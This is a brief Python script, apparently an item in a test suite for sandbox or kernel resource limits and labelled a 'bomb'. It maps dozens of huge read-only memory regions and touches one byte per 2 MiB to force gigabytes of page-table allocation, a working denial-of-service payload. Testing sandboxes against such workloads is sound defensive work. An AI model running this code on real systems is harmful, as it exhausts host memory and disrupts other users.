"""
kind: bomb
tries: Tables of pages that were only read: 4 KiB for every 2 MiB, up to 6 GiB of tables.
plain: no
"""

import mmap

areas = []
for _ in range(48):
    area = mmap.mmap(-1, 1 << 36, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, prot=mmap.PROT_READ)
    for start in range(0, 1 << 36, 1 << 21):
        area[start]
    areas.append(area)
